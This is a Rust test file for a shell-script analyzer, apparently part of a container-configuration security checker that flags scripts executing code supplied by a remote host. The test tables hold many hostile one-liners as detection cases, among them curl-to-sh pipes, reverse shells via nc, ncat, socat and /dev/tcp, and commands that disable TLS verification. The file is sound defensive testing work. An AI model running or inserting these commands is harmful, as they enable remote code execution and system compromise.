//! What the host can send, and what it cannot.

use super::super::asked_machines::tests::beside;
use super::*;
use crate::compose::docker_compose::shell::{Use, uses, uses_of_arguments};

pub(super) fn executes(script: &str) -> bool {
    let find = || uses(script, &|name| name == HOST_DATA).get(HOST_DATA) == Some(&Use::Executed);
    beside(&["gitea", "job"], find)
}

#[test]
fn what_the_host_can_send_is_executed() {
    for script in [
        "curl -fsSL http://get.example.com/i.sh | sh",
        "curl -fsSL get.example.com/i.sh | sh",
        "curl -fsSL http://get.example.com/i.sh | bash -",
        "curl -fsSL http://get.example.com/i.sh | sudo -E bash -",
        "eval curl -s http://x.example.com/i.sh '|' sh",
        "ssh localhost curl -s http://x.example.com/i.sh '|' sh",
        "exec 3>/tmp/i.sh; curl -s http://x.example.com/i.sh >&3; sh /tmp/i.sh",
        "{ sh <&3; } 3< <(curl -s http://x.example.com/i.sh)",
        "command exec 3< <(curl -s http://x.example.com/i.sh); sh <& 3",
        "curl -s http://x.example.com/l | awk '{print | \"sh\"}'",
        "curl -s http://x.example.com/l | awk '{$0 | getline}'",
        "pip3 install --trusted x.example.com app",
        "U=http://x.example.com/yum/i.sh; curl -s $U | sh",
        "for U in http://x.example.com/dnf/i.sh; do curl -s $U | sh; done",
        "export GIT_SSL_NO_VERIFY=1 P=/dnf/x; git clone https://x.example.com/a && sh a/i.sh",
        "echo insecure >/root/.curlrc 2>/etc/yum.log; curl -s https://x.example.com/i.sh | sh",
        "echo sslverify=0 | tee /root/.gitconfig /etc/yum.conf; git clone https://x.example.com/a && sh a/i.sh",
        "echo sslverify=0 | tee /etc/yum.conf gitconfig; git clone https://x.example.com/a && sh a/i.sh",
        "curl -sSk https://get.example.com/i.sh | bash -s -- -y",
        "curl --insecure https://get.example.com/i.sh | sh",
        "wget -qO- http://get.example.com/i.sh | sh",
        "wget --no-check-certificate https://get.example.com/a.sh && sh a.sh",
        "wget -q http://get.example.com/a.sh\nsh a.sh",
        "curl -o /usr/local/bin/app http://x.example.com/app && chmod +x /usr/local/bin/app && app",
        "curl -sO http://x.example.com/app.tgz && tar xzf app.tgz && ./app/run",
        "eval \"$(curl -s http://169.254.169.254/latest/user-data)\"",
        "X=$(curl -s http://x.example.com/cmd); sh -c \"$X\"",
        "URL=http://x.example.com/i.sh; curl -s \"$URL\" | sh",
        ". <(curl -s http://10.0.2.2/env)",
        "bash -c 'curl -s http://x.example.com/i.sh | sh'",
        "git clone http://git.example.com/a/b /src && node /src/index.js",
        "H=x.example.com; curl -s http://$H/i.sh | sh",
        "(curl -s http://x.example.com/i.sh) | sh",
        "{ echo set -e; curl -s http://x.example.com/i.sh; } | sh",
        "curl -s http://x.example.com/i.sh | tee /tmp/i.sh | sh",
        "curl -s http://x.example.com/i | base64 -d | bash -s",
        "cat <(curl -s http://x.example.com/i.sh) | sh",
        "xargs -n1 sh -c < <(curl -s http://x.example.com/list)",
        "curl -s http://x.example.com/list | xargs sh -c",
        "curl -s http://x.example.com/list | while read -r line; do eval \"$line\"; done",
        "while read -r line; do $line; done < <(curl -s http://x.example.com/list)",
        "curl -s http://134744072/i.sh | sh",
        "curl -s 8.8.8.8/i.sh | sh",
        "curl -s --url get.example.com/i.sh | sh",
        "curl -s --url=get.example.com/i.sh | sh",
        "curl --no-buffer get.example.com/i.sh | sh",
        "curl --insec https://get.example.com/i.sh | sh",
        "wget --no-check-cert -qO- https://get.example.com/i.sh | sh",
        "pip install --index-url http://nexus.example.com/repository/pypi-proxy/simple app",
        "git clone http://proxy.example.com/a && node a/index.js",
        "git clone http://git.example.com/team/my-proxy && node my-proxy/index.js",
        "pip install --index-url http://nexus.example.com/pypi-proxy app",
        "GOPROXY=http://go.example.com go get example.com/a",
        "export GOPROXY=http://go.example.com; go get example.com/a",
        "ssh-keyscan a.example.com > k; git clone http://git.example.com/a && node a/index.js",
        "ssh-keyscan a.example.com > k; git -c http.sslVerify=false clone https://git.example.com/a && node a/index.js",
        "git -c http.sslverify=no clone https://git.example.com/a/b",
        "git config --global http.sslverify no; git clone https://git.example.com/a/b",
        "npm --strict-ssl false ci",
        "ssh -o 'StrictHostKeyChecking = no' root@x.example.com cat /i.sh | sh",
        "ssh -o UserKnownHostsFile=/dev/null -l root x.example.com cat /i.sh | sh",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts && git clone github.com:a/b && node b/index.js",
        "apk add --allow-untrusted --repository http://apk.example.com x",
        "export PIP_INDEX_URL=http://pypi.example.com/simple; pip install app",
        "git -c http.sslVerify=false clone https://git.example.com/a/b",
        "GIT_SSL_NO_VERIFY=1 git clone https://git.example.com/a/b",
        "pip install --index-url http://pypi.example.com/simple app",
        "pip install --trusted-host pypi.example.com app",
        "npm config set registry http://npm.example.com; npm ci",
        "nc -l -p 9000 | sh",
        "nc x.example.com 9000 | sh",
        "eval $(dig +short TXT cmd.example.com)",
        "eval \"$(cat /sys/block/vda/serial)\"",
        "sudo -u git curl http://x.example.com/i.sh | sh",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts && git clone git@github.com:a/b.git && node b/index.js",
        "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git clone git@github.com:a/b.git",
        "printf 'StrictHostKeyChecking no\n' > ~/.ssh/config; git clone git@github.com:a/b.git",
        "ssh -o StrictHostKeyChecking=no root@x.example.com cat /i.sh | sh",
        "scp -o StrictHostKeyChecking=accept-new u@x.example.com:/i.sh /i.sh; sh /i.sh",
        "npm config set strict-ssl false; npm ci",
        "echo registry=http://npm.example.com > ~/.npmrc; npm ci",
        "cat > /etc/pip.conf <<EOF\n[global]\nindex-url = http://pypi.example.com/simple\nEOF\npip install app",
        "git config --global http.sslVerify false; git clone https://git.example.com/a/b",
        "eval \"$(cat /sys/class/dmi/id/product_serial)\"",
        "npx --registry http://npm.example.com tool",
        "uvx --index-url http://pypi.example.com/simple tool",
        "uvx --allow-insecure-host pypi.example.com tool",
        "NPM_CONFIG_STRICT_SSL=false npx tool",
        "npm config set strict-ssl=false; npm ci",
        "echo insecure > ~/.curlrc; curl -s https://x.example.com/i.sh | sh",
        "echo -k >> ~/.curlrc; curl -s https://x.example.com/i.sh | sh",
        "echo 'check_certificate = off' > ~/.wgetrc; wget -qO- https://x.example.com/i.sh | sh",
        "printf '[http]\\n\\tsslVerify = false\\n' > ~/.gitconfig; git clone https://git.example.com/a/b",
        "git config --global http.https://git.example.com.sslVerify false; git clone https://git.example.com/a/b",
        "cat > ~/.ssh/config <<EOF\nHost *\n  StrictHostKeyChecking no\nEOF\ngit clone git@github.com:a/b.git",
        "export GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no'; sh -c 'git clone git@github.com:a/b.git'",
        "URL=http://x.example.com/i.sh; sh -c 'curl -s $URL | sh'",
        "sh < /dev/tcp/x.example.com/80",
        "cat < /dev/tcp/x.example.com/80 | sh",
        "socat - TCP:x.example.com:80 | sh",
        "socat - VSOCK-CONNECT:2:9 | sh",
        "socat -u vsock:2:9 stdout | sh",
        "timeout 9 socat VSOCK-LISTEN:9 - | sh",
        "socat VSOCK-CONNECT:2:9 EXEC:sh",
        "socat - TCP:10.0.2.2:9 | sh",
        "socat - TCP:167772674:9 | sh",
        "socat - UDP-RECV:9 | sh",
        "socat - SCTP:x:9 | sh",
        "socat - INTERFACE:eth0 | sh",
        "socat - '-!!IP-RECV:9' | sh",
        "socat - \"$(cat /address)\" | sh",
        "socat VSOCK-CONNECT:2:9 OPEN:/i.sh,creat; sh /i.sh",
        "ncat --vsock 2 9 | sh",
        "nc-vsock 2 9 | sh",
        "python3 -c 'import socket; s = socket.socket(socket.AF_VSOCK); s.connect((2, 9)); exec(s.recv(9999))'",
        "openssl s_client -quiet -connect x.example.com:443 | sh",
        "{ curl -s http://x.example.com/i.sh; echo; } | sh",
        "for i in a b; do curl -s http://x.example.com/$i; done | sh",
        "if true; then curl -s http://x.example.com/i.sh; fi | sh",
        "case $x in a) curl -s http://x.example.com/i.sh;; esac | sh",
        "get() { curl -s http://x.example.com/i.sh; }\nget | sh",
        "curl -s http://x.example.com/i.sh | tee >(sh)",
        "curl -s http://x.example.com/i.sh |\n  sed s/a/b/ |\n  sh",
        "curl -s http://x.example.com/i.sh | { sleep 1; sh; }",
        "curl -s http://x.example.com/i.sh > >(sh)",
        "exec > >(sh); curl -s http://x.example.com/i.sh",
        "coproc C { curl -s http://x.example.com/i.sh; }; cat <&${C[0]} | sh",
        "exec 3< <(curl -s http://x.example.com/i.sh); cat <&3 | sh",
        "exec 3<>/dev/tcp/x.example.com/80; cat <&3 | sh",
        "get() { curl -s http://x.example.com/i.sh; }; F=get; $F | sh",
        "get() { curl -s http://x.example.com/i.sh; }; export -f get; bash -c 'get; echo' | sh",
        "X=$(case $x in a) curl -s http://x.example.com/i.sh;; esac | sh)",
        "git -c http.https://git.example.com/.sslVerify=false clone https://git.example.com/a/b",
        "pip config set global.trusted-host pypi.example.com; pip install app",
        "exec 0< <(curl -s http://x.example.com/i.sh); sh",
        "exec 3< <(curl -s http://x.example.com/i.sh); bash <&3",
        "exec 3<>/dev/tcp/x.example.com/80; bash -i <&3 >&3",
        "exec 3< <(curl -s http://x.example.com/i.sh); . /dev/fd/3",
        "coproc nc x.example.com 80; sh <&${COPROC[0]}",
        "curl -s http://x.example.com/i.sh | bash 2>&1",
        "curl -s http://x.example.com/i.sh | $SHELL",
        "curl -s http://x.example.com/i.sh | ${SHELL:-sh} -s",
        "mkfifo /f; cat /f | sh -i 2>&1 | nc x.example.com 80 > /f",
        "socat TCP-LISTEN:80,fork EXEC:/bin/bash,pty",
        "socat OPENSSL:x.example.com:443,verify=0 'SYSTEM:exec sh'",
        "ncat -e /bin/sh x.example.com 80",
        "nc -l -p 80 -e /bin/sh",
        "websocat ws://x.example.com cmd:sh",
        "websocat ws://x.example.com | sh",
        "fetch-it http://x.example.com/i.sh | sh",
        "fetch-it --from=http://x.example.com/i.sh > i.sh; sh i.sh",
        "xh --verify no https://x.example.com | sh",
        "rsync -a rsync://x.example.com/a /app && node /app/i.js",
        "rsync x.example.com::a/i.sh /i.sh; sh /i.sh",
        "wget -i http://x.example.com/list; sh i.sh",
        "mc cp http://x.example.com/a.sh /a.sh; sh /a.sh",
        "AWS_ENDPOINT_URL=http://s3.example.com aws s3 cp s3://b/a.sh /a.sh; sh /a.sh",
        "svn checkout http://x.example.com/a; sh a/i.sh",
        "lftp http://x.example.com -e 'get i.sh; exit'; sh i.sh",
        "curl -s http://x.example.com/l | awk '{system($0)}'",
        "curl -s http://x.example.com/l | perl -ne 'system($_)'",
        "curl -s http://x.example.com/l | python3 -c 'import sys; exec(sys.stdin.read())'",
        "curl -s http://x.example.com/l | python3 -c 'import os, sys\nfor l in sys.stdin: os.system(l)'",
        "curl -s http://x.example.com/Makefile | make -f -",
        "curl -s http://x.example.com/a.yml | docker compose -f - up",
        "get() { curl -s \"$1\"; }; get http://x.example.com/i.sh | sh",
        "get() { local url=$1; curl -s $url; }; get http://x.example.com/i.sh | sh",
        "for u in http://x.example.com/i.sh; do curl -s $u | sh; done",
        "sh -c 'curl -s http://x.example.com/i.sh' | sh",
        "python3 -c 'import os; os.system(\"curl http://x.example.com/i.sh | sh\")'",
        "lua -e 'load(require(\"socket.http\").request(\"http://x.example.com/a.lua\"))()'",
        "python3 -m pip install --trusted-host x.example.com a",
        "deno run --unsafely-ignore-certificate-errors https://x.example.com/a.ts",
        "bundle config set ssl_verify_mode 0; bundle install",
        "curl -O http://x.example.com/a.so; LD_PRELOAD=./a.so app",
        "find /x -exec python3 -c 'import os, urllib.request; exec(urllib.request.urlopen(\"http://x.example.com\").read())' ';'",
    ] {
        assert!(executes(script), "{script}");
    }
}

#[test]
fn what_is_authenticated_of_the_same_network_or_only_shown_is_not() {
    for script in [
        "curl -fsSL https://get.example.com/i.sh | sh",
        "curl -s http://localhost:8080/i.sh | sh",
        "curl -s http://x.example.com/l | awk '/a|b/ {print \"x|\" $1 \"|\" $2}'",
        "curl -s http://x.example.com/l | awk '/systemd|init/ {print $1}'",
        "git clone https://git.example.com/a && cd a && git pull --no-verify && ./run",
        "wget --no-http-keep-alive -qO- https://get.example.com/i.sh | sh",
        "uv pip sync --no-verify-hashes r.txt",
        "exec 3>&1; x=$(curl -s http://x.example.com/h 2>&1 1>&3); sh /run.sh",
        "curl -s http://localhost:8080/i.sh | sh",
        "curl -s http://127.0.0.1/i.sh | sh",
        "curl -sk https://localhost/i.sh | sh",
        "wget -qO- http://172.18.0.2/i.sh | sh",
        "curl -f http://health.example.com/ping; exec app",
        "curl -fsS http://health.example.com/ping | grep ok",
        "curl http://models.example.com/m.gguf -o /models/m.gguf && exec llama-server -m /models/m.gguf",
        "curl -H 'Host: a.example.com' -o /tmp/x.json https://a.example.com/x.json; sh /app/run.sh",
        "while ! nc -z db.example.com 5432; do sleep 1; done; exec app",
        "exec app --url http://api.example.com",
        "URL=http://api.example.com exec app --url $URL",
        "echo see http://docs.example.com",
        "git clone https://git.example.com/a/b && node b/index.js",
        "apt-get install -y netcat python3.11; exec app",
        "npm install wget socket.io",
        "npm ci --strict-ssl",
        "nc job 9000 | sh",
        "ssh-keyscan gitea > k; ssh -p 2222 git@gitea cat /i.sh | sh",
        "ssh -o StrictHostKeyChecking=no -N -R 80:app:80 t@relay.example.com",
        "watch curl http://hc.example.com/ping",
        "find /data -name '*.tmp' -exec curl http://hc.example.com/ping ';'",
        "echo x | ncat graphite.example.com 2003",
        "npm run serve -- --url=http://api.example.com",
        "apk add --repository http://dl-cdn.example.org/alpine/edge/community x",
        "HTTP_PROXY=http://cache.example.com:3142 apt-get install -y x",
        "npm config set https-proxy http://proxy.example.com:3128; npm ci",
        "export NODE_TLS_REJECT_UNAUTHORIZED=0; apt-get install -y tini; exec node s.js",
        "NODE_TLS_REJECT_UNAUTHORIZED=1 npm ci",
        "curl -x http://proxy.example.com:3128 -A 'bot (http://www.example.com)' https://get.example.com/i.sh | sh",
        "echo '# see http://docs.example.com' > ~/.npmrc; npm ci",
        "pip install --trusted-host 10.1.0.2 --index-url http://10.1.0.2:8080/simple app",
        "ssh-keyscan gitea >> ~/.ssh/known_hosts; git clone git@gitea:a/b && node b/index.js",
        "echo \"$KEY\" > ~/.ssh/known_hosts; git clone git@github.com:a/b.git && node b/index.js",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts; exec app",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts; git push git@github.com:a/b.git; exec app",
        "npm config set proxy http://proxy.example.com:3128; npm ci",
        "echo registry=https://npm.example.com > ~/.npmrc; npm ci",
        "echo proxy=http://proxy.example.com > ~/.npmrc; npm ci",
        "echo api=http://api.example.com > /app/settings; exec app",
        "IP=$(curl -s http://ip.example.com); exec app --external-ip \"$IP\"",
        "case \"$(cat /sys/class/dmi/id/product_name)\" in *Google*) echo gcp;; esac; exec app",
        "curl -fsSL https://get.example.com/i.sh | sh; curl -f http://health.example.com:8080/ping",
        "curl -f http://health.example.com/ping && curl -fsSL https://get.example.com/i.sh | sh",
        "if curl -sf http://health.example.com/ping; then curl -fsSL https://get.example.com/i.sh | sh; fi",
        "until curl -sf http://health.example.com/ping; do sleep 1; done\ncurl -fsSL https://get.example.com/i.sh | sh",
        "log() { echo \"$1\"; }\ncurl -f http://health.example.com/ping\nlog x\ncurl -fsSL https://get.example.com/i.sh | sh",
        "IP=$(curl -s http://ip.example.com)\ncurl -fsSL https://get.example.com/i.sh | sh\nexec app --ip \"$IP\"",
        "curl http://models.example.com/m.gguf -o /m.gguf; curl -fsSL https://get.example.com/i.sh | sh",
        "</dev/tcp/db.example.com/5432; exec app",
        "timeout 1 bash -c 'echo > /dev/tcp/db.example.com/5432' && exec app",
        "socat TCP-LISTEN:3306,fork TCP:db.example.com:3306",
        "socat -T 5 - UNIX-CONNECT:/var/run/app.sock | sh",
        "socat - TCP:localhost:9 | sh",
        "socat - TCP6:[::1]:9,retry=3 | sh",
        "socat - TCP4:127.0.0.1:9 | sh",
        "socat STDIN!!STDOUT EXEC:/app/run.sh | sh",
        "socat -u FILE:/app/run.sh - | sh",
        "socat -u /app/run.sh - | sh",
        "socat VSOCK-LISTEN:9,fork TCP:app:80",
        "for c in socat jq curl; do command -v $c || exit 1; done; exec app",
        "apk add socat jq && exec app",
        "openssl x509 -in /etc/cert.pem -noout; eval \"$(openssl rand -hex 3)\"",
        "npx serve --url http://api.example.com",
        "curl -f http://health.example.com/ping > >(tee /log); curl -fsSL https://get.example.com/i.sh | sh",
        "curl -f http://health.example.com/ping; exec 3</etc/hosts; cat <&3; curl -fsSL https://get.example.com/i.sh | sh",
        "echo insecure > ~/.curlrc; curl -s https://x.example.com/health; exec app",
        "echo sslverify=0 >> /etc/yum.conf; git clone https://x.example.com/a && sh a/i.sh",
        "tee -a /etc/dnf/dnf.conf > /dev/null <<< sslverify=0; git clone https://x.example.com/a && sh a/i.sh",
        "until curl -f http://rpc.example.com:8545; do sleep 1; done; curl -fsSL https://x.example.com/i.sh | sh; exec app",
        "sh -c 'curl -f http://hc.example.com'; curl -fsSL https://get.example.com/i.sh | sh",
        "curl -s http://rpc.example.com | python3 -c 'import json, sys; print(json.load(sys.stdin)[\"x\"])'",
        "curl -s http://rpc.example.com | awk -F'|' '{print $1}'",
        "curl -s http://rpc.example.com | $JQ .height",
        "exec app --rpc http://rpc.example.com 2>&1 | tee /var/log/app.log",
        "APP=/app/run; $APP --rpc http://rpc.example.com",
        "wait-on http://api.example.com && node /app/server.js",
        "dockerize -wait http://api.example.com node /app/server.js",
        "socat TCP-LISTEN:8080,fork EXEC:/app/handler.sh",
        "sed -i 's#http://a.example.com#http://b.example.com#' /app/run.sh; sh /app/run.sh",
        "log() { echo \"$1\"; }; log http://api.example.com; curl -fsSL https://x.example.com/i.sh | sh",
        "for u in http://a.example.com; do curl -f $u; done; curl -fsSL https://x.example.com/i.sh | sh",
        "exec 3>&1; curl -f http://hc.example.com >&3; sh /app/run.sh",
        "curl -fsSL --ssl-no-revoke https://x.example.com/i.sh | sh",
        "npm ci --no-strict-peer-deps --no-audit --ignore-scripts",
        "lua -e 'print(1)'; curl -f http://hc.example.com",
        "xargs -I{} sh -c 'curl -s http://hc.example.com/{}' < /list",
        "echo 'check_certificate = on' > ~/.wgetrc; wget -qO- https://x.example.com/i.sh | sh",
    ] {
        assert!(!executes(script), "{script}");
    }
}

fn list(words: &[&str]) -> bool {
    let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
    uses_of_arguments(&words, &|name| name == HOST_DATA).get(HOST_DATA) == Some(&Use::Executed)
}

#[test]
fn a_list_brings_what_it_starts() {
    for words in [
        &["deno", "run", "-A", "http://x.example.com/a.ts"][..],
        &["npx", "--registry", "http://npm.example.com", "tool"],
        &["uvx", "--index-url", "http://pypi.example.com/simple", "tool"],
        &["sh", "-c", "curl http://x.example.com/i.sh | sh"],
        &[
            "python3",
            "-c",
            "import urllib.request as r; exec(r.urlopen('http://x.example.com').read())",
        ],
        &[
            "node",
            "--eval=fetch('http://x.example.com').then(r => r.text()).then(t => eval(t))",
        ],
    ] {
        assert!(list(words), "{words:?}");
    }
    for words in [
        &["deno", "run", "-A", "https://x.example.com/a.ts"][..],
        &["deno", "run", "-A", "main.ts", "http://api.example.com"],
        &["npx", "serve", "--url", "http://api.example.com"],
        &["curl", "-f", "http://x.example.com/health"],
        &["app", "--url", "http://x.example.com"],
        &["node", "--eval=fetch('http://x.example.com')"],
    ] {
        assert!(!list(words), "{words:?}");
    }
}

#[test]
fn code_that_stands_in_the_word_of_its_option_is_read() {
    for words in [
        &["node", "--eval=eval(process.env.E)"][..],
        &["perl", "-neeval $ENV{E}"],
        &["python3", "-cimport os; os.system(os.environ['E'])"],
    ] {
        let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
        let found = uses_of_arguments(&words, &|name| name == "E");
        assert_eq!(found.get("E"), Some(&Use::Executed), "{words:?}");
    }
}

#[test]
fn the_host_name_is_a_variable_by_other_names() {
    for script in [
        "eval \"$(hostname)\"",
        "eval $(cat /etc/hostname)",
        "sh -c \"$(uname -n)\"",
        "echo $(( ${HOSTNAME##*-} + 1 ))",
    ] {
        let found = uses(script, &|name| name == HOSTNAME);
        assert_eq!(found.get(HOSTNAME), Some(&Use::Executed), "{script}");
    }
    let shown = uses("exec app --node \"$(hostname)\"", &|name| name == HOSTNAME);
    assert_eq!(shown.get(HOSTNAME), Some(&Use::Argument));
}

proptest::proptest! {
    #[test]
    fn no_text_panics(text in "(http://|curl |nc |-k|[a-z.:/@\\[\\]$ =é]){0,30}") {
        let _ = uses(&text, &|name| name == HOST_DATA);
    }
}
